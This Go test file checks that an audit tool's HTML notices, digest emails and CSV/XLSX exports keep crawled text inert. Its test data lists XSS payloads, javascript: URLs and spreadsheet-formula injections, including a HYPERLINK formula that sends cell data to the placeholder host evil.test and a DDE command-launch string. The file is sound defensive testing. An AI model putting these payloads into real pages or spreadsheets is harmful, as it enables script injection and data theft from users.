package reports

// Output safety of the reports: text crawled from the portal (titles,
// columns, evidence, URLs) carrying HTML or script payloads must stay text
// in the HTML notice and the digest emails, no URL but http(s) may become
// a link, and no cell of the XLSX or CSV files may become a formula.

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"github.com/govaudit/govaudit/config"
	"github.com/govaudit/govaudit/store"
)

// markupPayloads are crawled texts that would run script if they were
// written into HTML unescaped.
var markupPayloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`,
	`</title></style></textarea><script>alert(1)</script>`,
	`<a href="javascript:alert(1)">点我</a>`,
	`<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
	"<scr\x00ipt>alert(1)</script>",
	`{{.}}<!--<script>-->`,
}

// urlPayloads are item URLs that must never become a clickable link.
var urlPayloads = []string{
	"javascript:alert(1)",
	"JaVaScRiPt:alert(document.cookie)",
	" javascript:alert(1)",
	"java\tscript:alert(1)",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"vbscript:msgbox(1)",
	`http://x.test/"><script>alert(1)</script>`,
}

// formulaPayloads are texts a spreadsheet could read as a formula.
var formulaPayloads = []string{
	"=1+1",
	"+1+1",
	"-1+1",
	"@SUM(1+1)",
	`=HYPERLINK("http://evil.test/?"&A1,"点我")`,
	`=cmd|' /C calc'!A0`,
	" =1+1",
	"  @SUM(A1)",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\u3000=1+1",
	"\u00a0+1",
	"＝1+1",
	"\x00=1+1",
	"\x7f@SUM(A1)",
}

// hostileInput is a quarter whose findings and adjustments carry every
// payload as title, column, evidence, reason and URL.
func hostileInput(t testing.TB) Input {
	t.Helper()
	p, err := ParseQuarter("2026Q3")
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 10, 9, 10, 0, 0, 0, cst)
	var texts []string
	texts = append(texts, markupPayloads...)
	texts = append(texts, formulaPayloads...)
	in := Input{Period: p, Site: "临淄区人民政府", Units: config.DefaultUnits(), Generated: at,
		Columns: map[string]string{}, Scoring: config.Scoring{}}
	for i, s := range texts {
		url := "http://www.linzi.gov.cn/doc_" + fmt.Sprint(i) + ".html"
		if i < len(urlPayloads) {
			url = urlPayloads[i]
		}
		col := "lzqzjj/col" + fmt.Sprint(i)
		in.Columns[col] = s
		in.Findings = append(in.Findings, store.Finding{ID: store.FindingID("timeliness", fmt.Sprint(i)), Rule: "timeliness",
			Subject: fmt.Sprint(i), Unit: "lzqzjj", Column: col, URL: url, Title: s, Quarter: "2026Q3", Points: 0.5,
			Status: store.StatusConfirmed, Scoring: true, DetectedAt: at,
			Evidence: store.Evidence{Text: s, Dates: map[string]string{"written": "2026-06-01"}}})
		in.Adjustments = append(in.Adjustments, store.Adjustment{ID: fmt.Sprintf("adj-%06d", i+1), Unit: "lzqfgj", Period: "2026Q3",
			Points: 0.5, Category: store.CategoryRectification, Reason: s, By: "王五", At: at})
	}
	return in
}

// checkHTML parses an HTML document and fails the test if it holds script,
// an event handler, an embedded object, or a link or source that is not
// an absolute http(s) URL. It returns the document's text.
func checkHTML(t *testing.T, what, doc string) string {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(doc))
	var text strings.Builder
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			if z.Err() != io.EOF {
				t.Fatalf("%s: %v", what, z.Err())
			}
			return text.String()
		case html.TextToken:
			text.Write(z.Text())
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "iframe", "object", "embed", "img", "form", "base", "meta":
				if tok.Data == "meta" && len(tok.Attr) == 1 && tok.Attr[0].Key == "charset" {
					break
				}
				t.Errorf("%s: element <%s %v>", what, tok.Data, tok.Attr)
			}
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				switch {
				case strings.HasPrefix(key, "on"):
					t.Errorf("%s: event handler %s=%q on <%s>", what, a.Key, a.Val, tok.Data)
				case key == "href" || key == "src" || key == "action" || key == "formaction" || key == "xlink:href":
					v := strings.ToLower(a.Val)
					if !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "https://") {
						t.Errorf("%s: <%s %s=%q> is not an http(s) link", what, tok.Data, a.Key, a.Val)
					}
				case key == "style" && strings.Contains(strings.ToLower(a.Val), "url("):
					t.Errorf("%s: style loads %q", what, a.Val)
				}
			}
		}
	}
}

// wantText fails the test unless every payload (as the page would show
// it) is in the document's text.
func wantText(t *testing.T, what, text string, payloads []string) {
	t.Helper()
	flat := strings.Join(strings.Fields(text), " ")
	for _, p := range payloads {
		shown := strings.Join(strings.Fields(strings.ReplaceAll(p, "\x00", "")), " ")
		if !strings.Contains(flat, shown) && !strings.Contains(flat, strings.ReplaceAll(shown, "\x00", "\ufffd")) {
			t.Errorf("%s: payload %q is not shown as text", what, p)
		}
	}
}

func TestHTMLNoticeKeepsPayloadsText(t *testing.T) {
	n, err := Build(hostileInput(t))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := WriteHTML(&b, n); err != nil {
		t.Fatal(err)
	}
	text := checkHTML(t, "HTML notice", b.String())
	wantText(t, "HTML notice", text, markupPayloads)
	// The printed notice carries no links and no URLs.
	if strings.Contains(b.String(), "<a ") || strings.Contains(b.String(), "x.test/%22") {
		t.Errorf("the printed notice shows a link or URL")
	}
}

// formulaRisk reports whether a spreadsheet could read cell as a formula:
// it starts (after any white space) with = + - @, or with a tab or CR,
// and is not protected by a leading apostrophe.
func formulaRisk(cell string) bool {
	if cell == "" || cell[0] == '\'' {
		return false
	}
	if cell[0] == '\t' || cell[0] == '\r' {
		return true
	}
	trimmed := strings.TrimLeftFunc(cell, unicode.IsSpace)
	return trimmed != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(trimmed)[0])
}

func TestCSVCellsCannotBecomeFormulas(t *testing.T) {
	n, err := Build(hostileInput(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []struct {
		name  string
		write func(io.Writer, *Notice) error
	}{{"ranking", WriteRankingCSV}, {"problems", WriteProblemsCSV}} {
		var b bytes.Buffer
		if err := w.write(&b, n); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte(bom)))).ReadAll()
		if err != nil {
			t.Fatalf("%s CSV: %v", w.name, err)
		}
		cells := 0
		for _, r := range recs {
			for _, c := range r {
				cells++
				if formulaRisk(c) {
					t.Errorf("%s CSV: cell %q can become a formula", w.name, c)
				}
			}
		}
		if cells == 0 {
			t.Fatalf("%s CSV is empty", w.name)
		}
	}
	// Every formula payload is still there, behind its apostrophe.
	var b bytes.Buffer
	WriteProblemsCSV(&b, n)
	for _, p := range formulaPayloads {
		kept := strings.Map(func(r rune) rune {
			if r == '\x00' || r == '\x7f' {
				return -1
			}
			return r
		}, p)
		if !strings.Contains(b.String(), strings.TrimLeft(strings.ReplaceAll(kept, `"`, `""`), " \t\r\n\u3000\u00a0")) {
			t.Errorf("problems CSV lost payload %q", p)
		}
	}
}

func TestXLSXCellsCannotBecomeFormulas(t *testing.T) {
	f := noticeXLSX(t, hostileInput(t))
	links := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range rows {
			for j, v := range r {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				fm, err := f.GetCellFormula(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if fm != "" {
					// Only a link to an http(s) URL, whose quotes cannot
					// end the formula's string, may be a formula.
					want := `HYPERLINK("` + strings.ReplaceAll(v, `"`, `""`) + `")`
					if fm != want || !linkable(v) {
						t.Errorf("%s!%s: formula %q (value %q)", sheet, cell, fm, v)
					}
					links++
					continue
				}
				if formulaRisk(v) {
					t.Errorf("%s!%s: text %q can become a formula", sheet, cell, v)
				}
			}
		}
	}
	if links == 0 {
		t.Error("no http link became a hyperlink: the check saw no formula at all")
	}
}

func TestDigestEmailKeepsPayloadsText(t *testing.T) {
	units := config.DefaultUnits()[:2]
	units[0].Email = "a@example.gov.cn"
	units[1].Email = "b@example.gov.cn"
	asOf := time.Date(2026, 11, 20, 9, 0, 0, 0, cst)
	in := DigestInput{Week: WeekOf(asOf), AsOf: asOf, Site: "临淄区人民政府", Units: units, Columns: map[string]string{}}
	texts := append(append([]string{}, markupPayloads...), formulaPayloads...)
	for i, s := range texts {
		url := "http://www.linzi.gov.cn/doc_" + fmt.Sprint(i) + ".html"
		if i < len(urlPayloads) {
			url = urlPayloads[i]
		}
		col := units[i%2].ID + "/c" + fmt.Sprint(i)
		in.Columns[col] = s
		in.Findings = append(in.Findings, store.Finding{ID: store.FindingID("timeliness", fmt.Sprint(i)), Rule: "timeliness",
			Subject: fmt.Sprint(i), Unit: units[i%2].ID, Column: col, URL: url, Title: s, Quarter: "2026Q4", Points: 1,
			Status: store.StatusDraft, Scoring: true, DetectedAt: asOf.Add(-time.Hour), Evidence: store.Evidence{Text: s}})
		in.Risks = append(in.Risks, Risk{Unit: units[i%2].ID, Kind: RiskMailbox, Column: s, Title: s, URL: url,
			Due: "2026-11-19", Overdue: i%2 == 0, Detail: s, WorkingDaysLeft: 2})
	}
	msgs, err := BuildDigest(in).Messages("office@example.gov.cn")
	if err != nil {
		t.Fatal(err)
	}
	if len(msgs.List) != 3 {
		t.Fatalf("%d messages, want 2 units and the summary", len(msgs.List))
	}
	var shown strings.Builder
	for _, m := range msgs.List {
		text := checkHTML(t, "email to "+m.To, m.HTML)
		if m.Unit != "" {
			shown.WriteString(text)
		}
	}
	wantText(t, "unit emails", shown.String(), markupPayloads)

	// The same through the .eml files: decode the HTML part as a mail
	// client would.
	dir := t.TempDir()
	paths, err := WriteEML(dir, "govaudit@example.gov.cn", "政务公开办", in.Week, msgs.List, asOf)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range paths {
		part := htmlPart(t, p)
		if part == "" {
			t.Fatalf("%s has no HTML part", filepath.Base(p))
		}
		checkHTML(t, filepath.Base(p), part)
	}
}

// htmlPart returns the decoded text/html part of an .eml file.
func htmlPart(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	msg, err := mail.ReadMessage(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	var find func(h map[string][]string, body io.Reader) string
	find = func(h map[string][]string, body io.Reader) string {
		mt, params, err := mime.ParseMediaType(mail.Header(h).Get("Content-Type"))
		if err != nil {
			t.Fatalf("%s: content type: %v", path, err)
		}
		if strings.HasPrefix(mt, "multipart/") {
			r := multipart.NewReader(body, params["boundary"])
			for {
				p, err := r.NextRawPart()
				if err != nil {
					return ""
				}
				if s := find(p.Header, p); s != "" {
					return s
				}
			}
		}
		if mt != "text/html" {
			return ""
		}
		var dec io.Reader = body
		switch strings.ToLower(mail.Header(h).Get("Content-Transfer-Encoding")) {
		case "base64":
			dec = base64.NewDecoder(base64.StdEncoding, body)
		case "quoted-printable":
			dec = quotedprintable.NewReader(body)
		}
		b, err := io.ReadAll(dec)
		if err != nil {
			t.Fatalf("%s: decode HTML part: %v", path, err)
		}
		return string(b)
	}
	return find(msg.Header, msg.Body)
}
